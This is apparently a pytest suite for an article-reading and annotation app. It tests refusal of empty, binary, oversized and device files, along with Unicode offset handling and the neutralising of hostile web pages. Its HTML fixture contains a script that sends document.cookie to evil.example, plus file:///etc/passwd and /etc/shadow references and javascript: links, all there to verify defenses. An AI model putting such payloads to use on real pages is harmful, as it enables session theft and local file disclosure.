"""A corpus of odd and hostile files, generated here: each is refused with a message or opened
with every offset right; nothing is fetched, executed, or read whole when too big."""

from __future__ import annotations

import os
import random
import socket
import threading
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from reader.analysis.pipeline import analyse_quotes
from reader.export.markdown import export_markdown
from reader.sources import MAX_FILE_BYTES, SourceError, article_from_text, load_file
from reader.store import Store
from reader.text import OffsetMap
from ui.export_request import ExportChoice

MB = 1024 * 1024


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir()
    return folder


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
    """Any attempt to open a connection is recorded and refused."""
    attempts: list[Any] = []

    def refuse(self: socket.socket, address: Any) -> None:
        attempts.append(address)
        raise OSError("network access attempted during a test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: refuse(None, a))  # type: ignore[arg-type]
    yield attempts


# Refused files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("empty.txt", b"", "empty"),
        ("blank.txt", b"  \n\n\t \r\n", "empty"),
        ("nul.txt", b"Titre\n\x00\x00\x00 texte", "binary"),
        ("image.png", b"\x89PNG\r\n\x1a\n" + random.Random(3).randbytes(4096), "binary"),
        ("controls.txt", bytes(range(1, 9)) * 500, "binary"),
    ],
)
def test_empty_and_binary_files_are_refused_with_a_message(
    corpus: Path, name: str, content: bytes, reason: str
) -> None:
    path = corpus / name
    path.write_bytes(content)
    with pytest.raises(SourceError, match=reason):
        load_file(path)


@pytest.mark.parametrize("megabytes", [50, 200])
def test_huge_files_are_refused_by_size_without_being_read(corpus: Path, megabytes: int) -> None:
    path = corpus / f"huge-{megabytes}.txt"
    with open(path, "wb") as stream:
        stream.truncate(megabytes * 1000 * 1000)  # sparse: no disk used
    tracemalloc.start()
    try:
        with pytest.raises(SourceError, match="MB"):
            load_file(path)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * MB, f"{peak} bytes allocated to refuse a {megabytes} MB file"


def test_the_size_limit_is_exact(corpus: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import reader.sources as sources

    monkeypatch.setattr(sources, "MAX_FILE_BYTES", 1000)
    at_limit = corpus / "limit.txt"
    at_limit.write_bytes(b"Titre\n" + b"a" * 994)
    assert load_file(at_limit).text.startswith("Titre")
    over = corpus / "over.txt"
    over.write_bytes(b"Titre\n" + b"a" * 995)
    with pytest.raises(SourceError, match="MB"):
        load_file(over)
    assert MAX_FILE_BYTES <= 50 * 1000 * 1000


def test_devices_and_pipes_are_refused_without_reading_them(corpus: Path) -> None:
    fifo = corpus / "pipe.txt"
    os.mkfifo(fifo)
    outcomes: list[str] = []

    def try_all() -> None:
        for path in (fifo, Path("/dev/zero"), Path("/dev/urandom")):
            if not path.exists():
                continue
            try:
                load_file(path)
                outcomes.append("opened")
            except SourceError as error:
                outcomes.append(str(error))

    worker = threading.Thread(target=try_all, daemon=True)
    worker.start()
    worker.join(timeout=10)
    assert not worker.is_alive(), "reading a pipe or a device never ended"
    assert outcomes and all("not a regular file" in outcome for outcome in outcomes)


# Odd text -----------------------------------------------------------------------------------


def test_invalid_utf8_falls_back_without_crashing(corpus: Path) -> None:
    path = corpus / "latin.txt"
    path.write_bytes("Titre\nL’été à Noël".encode() + b"\xff\xfe\x80 caf\xe9 cr\xe8me\n")
    loaded = load_file(path)
    assert loaded.encoding == "Windows-1252"
    assert "café crème" in loaded.text


def test_broken_utf16_is_decoded_with_replacement_characters(corpus: Path) -> None:
    path = corpus / "utf16.txt"
    path.write_bytes(
        b"\xff\xfe" + "Titre\nTexte ".encode("utf-16-le") + b"\x00\xd8" + b"A\x00" + b"\x00"
    )
    loaded = load_file(path)
    assert loaded.encoding == "UTF-16"
    assert loaded.text.startswith("Titre\nTexte")
    assert "\ufffd" in loaded.text


def test_mixed_line_endings_become_one_kind(corpus: Path) -> None:
    path = corpus / "mixed.txt"
    path.write_bytes("Titre\r\nUn.\rDeux.\nTrois.\u2028Quatre.\r\n\r\n\r\nCinq.".encode())
    loaded = load_file(path)
    assert "\r" not in loaded.text and "\u2028" not in loaded.text
    assert [loaded.text[p.start : p.end] for p in loaded.layout.paragraphs] == [
        "Titre",
        "Un.",
        "Deux.",
        "Trois.",
        "Quatre.",
        "Cinq.",
    ]


def test_a_single_line_of_one_megabyte_opens_and_is_analysed_quickly(corpus: Path) -> None:
    sentence = "Le ministre a déclaré « nous verrons » puis il est parti. "
    path = corpus / "one-line.txt"
    path.write_text("Titre\n" + sentence * (MB // len(sentence)), encoding="utf-8")
    began = time.perf_counter()
    loaded = load_file(path)
    analysis = analyse_quotes(loaded.text, loaded.layout)
    elapsed = time.perf_counter() - began
    assert len(loaded.layout.paragraphs) == 2
    assert len(analysis.quotes) > 1000
    assert elapsed < 30, f"{elapsed:.1f} s for a 1 MB line"


def test_thousands_of_quotation_marks_and_unbalanced_ones_never_swallow_the_text() -> None:
    text = (
        "Titre\n"
        + "« " * 3000
        + "\n"
        + '» » » “ ” “ " \' " ‹ ›' * 500
        + "\nUn paragraphe « jamais fermé, qui continue\n"
        + "Plus loin, « une vraie citation », a-t-il dit.\n"
        + '" ' * 2000
    )
    loaded = article_from_text("test:quotes", text)
    began = time.perf_counter()
    analysis = analyse_quotes(loaded.text, loaded.layout)
    assert time.perf_counter() - began < 20
    assert all(0 <= q.start < q.end <= len(loaded.text) for q in analysis.quotes)
    assert any(q.text.strip("« »") == "une vraie citation" for q in analysis.quotes), [
        q.text[:40] for q in analysis.quotes if "vraie" in q.text
    ]


# Offsets with characters outside the BMP, right-to-left text, zero-width characters -----------

ODD_TEXTS = {
    "emoji": "Titre 📰\n😀👍🏽 Le 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 « cité 🎉 ici » fin 🇫🇷.\nSuite 👩‍👩‍👧 et 𝄞 musique.",
    "right-to-left": "Titre\nقال الوزير « لن نتنازل » أمام النواب. שלום עולם! Mixed עברית text.",
    "zero-width": (
        "Titre\nZéro\u200blargeur\u200c, joint\u200d, mot\u2060joint et\ufeffBOM au milieu."
    ),
}


@pytest.mark.parametrize("kind", ODD_TEXTS, ids=list(ODD_TEXTS))
def test_offsets_stay_right_through_qt_the_store_and_the_export(
    kind: str, data_dir: Path, qapp: Any
) -> None:
    from PySide6.QtGui import QTextCursor, QTextDocument

    loaded = article_from_text(f"test:{kind}", ODD_TEXTS[kind])
    text = loaded.text
    offsets = OffsetMap(text)
    document = QTextDocument()
    document.setPlainText(text)
    second = loaded.layout.paragraphs[1]
    spans = [(second.start, second.end), (second.start + 1, second.start + 9)]
    for index, char in enumerate(text):
        if ord(char) > 0xFFFF or char in "\u200b\u200d\ufeff\u0642":
            spans.append((index, min(len(text), index + 3)))
            spans.append((max(0, index - 2), index + 1))
    with Store(data_dir) as store:
        article = store.add_or_update_article(loaded.source, loaded.title, text)
        assert store.article(article.id).text == text  # type: ignore[union-attr]
        for start, end in spans:
            cursor = QTextCursor(document)
            cursor.setPosition(offsets.to_qt(start))
            cursor.setPosition(offsets.to_qt(end), QTextCursor.MoveMode.KeepAnchor)
            # Qt shows a paragraph break inside a selection as U+2029.
            assert cursor.selectedText().replace("\u2029", "\n") == text[start:end]
            assert offsets.to_python(cursor.selectionStart()) == start
            assert offsets.to_python(cursor.selectionEnd()) == end
            store.add_annotation(article, start, end, note=f"{start}-{end} {text[start:end]}")
        stored = store.annotations(article.id)
        assert len(stored) == len(spans)
        for annotation in stored:
            assert annotation.exact == text[annotation.start : annotation.end]
            assert annotation.note.startswith(f"{annotation.start}-{annotation.end} ")
        markdown = export_markdown(article, stored)
    body = markdown.split("---\n", 2)[2]
    tokens = MarkdownIt("commonmark").parse(body)
    assert sum(t.type == "blockquote_open" for t in tokens) == len(spans)
    quoted = "\n".join(
        tokens[i + 2].content
        for i, t in enumerate(tokens)
        if t.type == "blockquote_open" and tokens[i + 2].type == "inline"
    ).replace("\\", "")
    for start, end in spans:
        assert text[start:end].strip() in quoted


def test_an_emoji_span_selected_in_the_window_is_stored_and_exported_exactly(
    qtbot: Any, data_dir: Path
) -> None:
    from tests.qt_support import one_window

    loaded = article_from_text("test:emoji", ODD_TEXTS["emoji"])
    text = loaded.text
    start = text.index("🎉") - 5
    end = text.index("»") + 1
    with one_window(qtbot, data_dir, loaded) as window:
        session, store = window.session, window.session.library.store
        window.view.select_range(start, end)
        assert window.view.textCursor().selectedText() == text[start:end]
        assert window.view.selected_range() == (start, end)
        annotation = session.annotate(*window.view.selected_range(), note="🎉 note")
        assert annotation is not None
        assert store.annotation(annotation.id).exact == "cité 🎉 ici »"  # type: ignore[union-attr]
        assert "cité 🎉 ici »" in session.export_text(ExportChoice())


# Web pages and Markdown with active content ---------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Page piégée</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie); var SECRET_SCRIPT = 1;</script>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head><body>
<article>
<h1>Un titre d’article ordinaire</h1>
<p>Le premier paragraphe de l’article explique calmement la situation politique du moment,
avec assez de texte pour être reconnu comme le corps de l’article par l’extracteur.</p>
<img src="https://evil.example/pixel.gif" onerror="alert('img')">
<img src="file:///etc/passwd">
<iframe src="https://evil.example/frame"></iframe>
<iframe src="file:///etc/shadow"></iframe>
<p>Un second paragraphe, avec <a href="javascript:alert('lien')">un lien piégé</a> et
<a href="file:///etc/passwd">un lien local</a>, continue le récit de façon tout à fait
normale pour que l’article soit assez long.</p>
<form action="https://evil.example/post"><input name="q" value="SECRET_FORM"></form>
<object data="https://evil.example/flash.swf"></object>
<p>Un troisième paragraphe conclut l’article, toujours sans rien de particulier à signaler,
sinon que la page contient des pièges qui ne doivent jamais s’exécuter ni se télécharger.</p>
</article>
<script src="https://evil.example/tracker.js"></script>
</body></html>
"""


def test_a_hostile_web_page_is_reduced_to_its_text_without_fetching_anything(
    corpus: Path, no_network: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    import builtins

    opened: list[str] = []
    real_open = builtins.open

    def watching_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    path = corpus / "page.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    monkeypatch.setattr(builtins, "open", watching_open)
    loaded = load_file(path)
    monkeypatch.setattr(builtins, "open", real_open)
    assert no_network == []
    assert not [name for name in opened if name.startswith("/etc")]
    assert "premier paragraphe" in loaded.text and "troisième paragraphe" in loaded.text
    for trap in ("SECRET_SCRIPT", "SECRET_FORM", "evil.example", "javascript:", "file://"):
        assert trap not in loaded.text
        assert trap not in str(loaded.metadata)


def test_markup_in_an_article_is_shown_as_text_never_rendered(
    qtbot: Any, corpus: Path, data_dir: Path, no_network: list[Any]
) -> None:
    from tests.qt_support import one_window

    path = corpus / "notes.md"
    raw = (
        "# Titre en Markdown\n\n"
        'Du texte avec <img src="file:///etc/passwd"> et <script>alert(1)</script>.\n\n'
        '<iframe src="https://evil.example/"></iframe> [lien](javascript:alert(2))\n'
    )
    path.write_text(raw, encoding="utf-8")
    loaded = load_file(path)
    assert '<img src="file:///etc/passwd">' in loaded.text
    with one_window(qtbot, data_dir, loaded) as window:
        session = window.session
        document = window.view.document()
        assert document.toPlainText() == loaded.text
        assert "<img" not in document.toHtml() and "&lt;img" in document.toHtml()
        start = loaded.text.index("<img")
        annotation = session.annotate(start, loaded.text.index("</script>") + 9, note="<b>x</b>")
        assert annotation is not None
        tokens = MarkdownIt("commonmark").parse(
            session.export_text(ExportChoice()).split("---\n", 2)[2]
        )
    inline = [child for t in tokens if t.children for child in t.children]
    assert not [t for t in tokens + inline if t.type in ("html_block", "html_inline")]
    assert no_network == []


# Big notes and odd tags -----------------------------------------------------------------------


def test_a_one_megabyte_note_and_odd_tags_survive_the_store_and_the_export(
    data_dir: Path,
) -> None:
    note = ("Une note très longue 🙂 avec du **Markdown**.\n\n" * 25_000)[:MB] + "FIN"
    assert len(note.encode("utf-8")) > MB
    tags = ["à voir", "#politique", "##double", "🏷️ étiquette", "  espaces   multiples  ", "#"]
    with Store(data_dir) as store:
        article = store.add_or_update_article("test:notes", "Titre", "Titre\nUn texte court.")
        annotation = store.add_annotation(article, 6, 9, note=note, tags=tags)
        stored = store.annotation(annotation.id)
        assert stored is not None and stored.note == note
        assert stored.tags == ("à voir", "politique", "double", "🏷️ étiquette", "espaces multiples")
        assert store.search("etiquette")[0].ref == annotation.id
        markdown = export_markdown(article, [stored])
    assert "FIN" in markdown
    tokens = MarkdownIt("commonmark").parse(markdown.split("---\n", 2)[2])
    assert sum(t.type == "heading_open" for t in tokens) == 2
    assert sum(t.type == "blockquote_open" for t in tokens) == 1


def test_lone_surrogates_from_the_interface_are_stored_as_replacement_characters(
    data_dir: Path,
) -> None:
    """Qt can hand over a string with half a surrogate pair (a broken paste); UTF-8 cannot
    store it. It becomes U+FFFD instead of an exception in the middle of a save."""
    broken = "avant \ud83d après"
    loaded = article_from_text("test:broken", "Titre\n" + broken)
    assert loaded.text == "Titre\navant \ufffd après"
    with Store(data_dir) as store:
        article = store.add_or_update_article(loaded.source, loaded.title, loaded.text)
        annotation = store.add_annotation(article, 6, 11, note=broken, tags=[broken])
        assert annotation.note == "avant \ufffd après"
        assert annotation.tags == ("avant \ufffd après",)
        edited = store.update_annotation(annotation.id, note="\udc00 seul")
        assert store.annotation(annotation.id) == edited
        store.restore_annotation(annotation.with_changes(note="x\ud800"))
        assert store.annotation(annotation.id).note == "x\ufffd"  # type: ignore[union-attr]
        assert store.search("\ud800") == []
